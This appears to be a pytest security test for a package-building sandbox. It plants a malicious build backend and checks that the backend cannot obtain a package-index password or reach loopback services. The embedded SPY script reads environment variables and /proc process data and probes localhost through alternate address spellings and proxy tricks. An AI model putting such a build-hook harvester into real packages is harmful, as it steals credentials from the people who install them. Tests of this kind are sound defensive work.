"""What a build script finds: no password, and nothing of this machine's own network."""

from __future__ import annotations

import asyncio
import base64
import hashlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from made_packages import backend, make_source, make_wheel

PASSWORD = "s3cret-of-the-lab"

# Tells all that it can find of passwords, and tries the services of this machine by every way.
SPY = """
import base64, glob, os, socket, urllib.request
said = [repr(dict(os.environ))]
places = ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/labbox/**", "/build/*.txt")
for path in [path for place in places for path in glob.glob(place, recursive=True)]:
    try:
        said.append(repr(open(path, "rb").read(1 << 20)))
    except OSError:
        pass
def ask(address, proxy=None):
    handler = urllib.request.ProxyHandler({"http": proxy} if proxy else {})
    try:
        return urllib.request.build_opener(handler).open(address, timeout=5).read(1000).decode()
    except Exception as error:
        return ""
port = %(port)d
for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", %(own)r):
    address = "http://%%s:%%d/own" %% (host, port)
    for proxy in (None, "http://127.0.0.1:3128", "http://127.0.0.1:3129"):
        said.append(ask(address, proxy))
said.append(ask("http://127.0.0.1:3129/@127.0.0.1:%%d/own" %% port))
said.append(ask("http://127.0.0.1:3129//127.0.0.1:%%d/own" %% port))
return " ".join(said)
"""


class Index:
    """A package index on loopback that wants a password, and a service beside it that has a secret."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.asked: list[str] = []
        self.own: list[bytes] = []
        self.port = self.own_port = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        path = head.split(" ")[1]
        self.asked.append(path)
        wanted = base64.b64encode(f"lab:{PASSWORD}".encode()).decode()
        if f"basic {wanted.lower()}" not in head.lower():
            answer = (401, b"", "text/plain")
        elif path.startswith("/files/"):
            file = self.folder / path.rpartition("/")[2]
            answer = (
                (200, file.read_bytes(), "application/octet-stream") if file.is_file() else (404, b"", "")
            )
        else:
            answer = (200, self.page(path.rstrip("/").rpartition("/")[2]), "text/html")
        status, body, kind = answer
        more = 'WWW-Authenticate: Basic realm="x"\r\n' if status == 401 else ""
        writer.write(
            f"HTTP/1.1 {status} x\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{more}"
            "Connection: close\r\n\r\n".encode()
            + (b"" if head.startswith("HEAD") else body)
        )
        await writer.drain()
        writer.close()

    def page(self, name: str) -> bytes:
        """Absolute addresses, as many indexes write them, and with the password, as some do."""
        links = "".join(
            f'<a href="http://lab:{PASSWORD}@127.0.0.1:{self.port}/files/{file.name}'
            f'#sha256={hashlib.sha256(file.read_bytes()).hexdigest()}">{file.name}</a>\n'
            for file in sorted(self.folder.iterdir())
            if file.name.partition("-")[0].lower().replace("_", "-") == name
        )
        return f"<!DOCTYPE html><html><body>{links}</body></html>".encode()

    async def secret(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.own.append(await reader.read(1000))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nown-thing")
        await writer.drain()
        writer.close()


@pytest.fixture
async def index(links: Path) -> AsyncIterator[Index]:
    found = Index(links)
    pip = next(Path("/usr/share/python-wheels").glob("pip-*.whl"))
    (links / pip.name).write_bytes(pip.read_bytes())
    servers = [await asyncio.start_server(one, "127.0.0.1", 0) for one in (found.serve, found.secret)]
    found.port, found.own_port = (one.sockets[0].getsockname()[1] for one in servers)
    yield found
    for server in servers:
        server.close()


@pytest.mark.attack("S13")
async def test_a_build_script_finds_no_password_and_none_of_this_machines_services(
    open_box: Callable[..., Any], index: Index, tried: Callable[..., None]
) -> None:
    spy = SPY % {"port": index.own_port, "own": "127.0.0.2"}
    make_source(index.folder, "labspy", backend("labspy", spy))
    make_wheel(index.folder, "labgreet")
    box = await open_box(
        {
            "PIP_CONFIG_FILE": "/dev/null",
            "PIP_INDEX_URL": f"http://lab:{PASSWORD}@127.0.0.1:{index.port}/simple",
            "PIP_EXTRA_INDEX_URL": f"http://lab:{PASSWORD}@127.0.0.1:{index.port}/more",
        }
    )
    tried(25)
    prepared = await box.prepare(("requirements", "labspy\nlabgreet\n"))
    ran = await box.run(prepared, "python3", "-c", "import labspy; print(labspy.found.replace(chr(10), ' '))")
    (found,) = (path for path in prepared.environment.glob("lib/*/site-packages/labspy.py"))
    text = found.read_text()
    assert ran.code == 0
    assert "PIP_INDEX_URL" in text  # it did look
    assert PASSWORD not in text
    assert base64.b64encode(f"lab:{PASSWORD}".encode()).decode() not in text
    assert "own-thing" not in text
    assert index.own == []
    assert not [line for line in box.lines if PASSWORD in line]
    assert list((box.state / "environments-cache/built").iterdir()) == []
